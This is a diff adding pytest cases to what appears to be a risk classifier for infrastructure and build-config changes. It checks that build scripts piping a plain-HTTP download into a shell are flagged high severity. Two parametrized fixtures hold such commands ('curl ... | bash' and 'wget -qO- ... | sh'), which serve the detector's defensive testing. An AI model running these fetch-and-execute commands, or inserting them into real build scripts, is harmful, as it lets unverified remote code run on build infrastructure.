@@ -307,3 +307,29 @@ def test_a_deleted_build_definition_is_medium(tmp_path: Path, address: str) -> N
 def test_a_deleted_store_of_builds_stays_high(tmp_path: Path, address: str) -> None:
     label, worst = judged(tmp_path, deleted(address, {"name": "builds"}))
     assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("resource-delete") is Severity.HIGH
+
+
+# --- a build's own script piping a plain-HTTP download into a shell, like a boot script -------------------------
+def build_project(attribute: str, script: str) -> dict[str, Any]:
+    return {"name": "orders", "source": [{"type": "CODEPIPELINE", attribute: script}]}
+
+
+SPEC = "version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n      - npm test\n"
+
+
+@pytest.mark.parametrize(("address", "attribute", "line"), [
+    ("nimbus_codebuild_project.orders", "buildspec", "      - curl -fsSL http://get.tools.net/setup.sh | bash\n"),
+    ("acme_pipeline_step.deploy", "deploy_script", "wget -qO- http://203.0.113.7/install | sh\n"),
+])
+def test_a_build_script_piping_a_plain_download_into_a_shell_is_high(tmp_path: Path, address: str, attribute: str,
+                                                                     line: str) -> None:
+    label, worst = judged(tmp_path, entry(address, build_project(attribute, SPEC),
+                                          build_project(attribute, SPEC + line)))
+    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get("boot-script-weakens") is Severity.HIGH
+
+
+def test_a_build_script_adding_an_audit_step_stays_safe(tmp_path: Path) -> None:
+    safer = SPEC.replace("npm ci", "npm ci --ignore-scripts\n      - npm audit --audit-level=high")
+    label, worst = judged(tmp_path, entry("nimbus_codebuild_project.orders", build_project("buildspec", SPEC),
+                                          build_project("buildspec", safer)))
+    assert label is Label.LIKELY_SAFE and "boot-script-weakens" not in worst
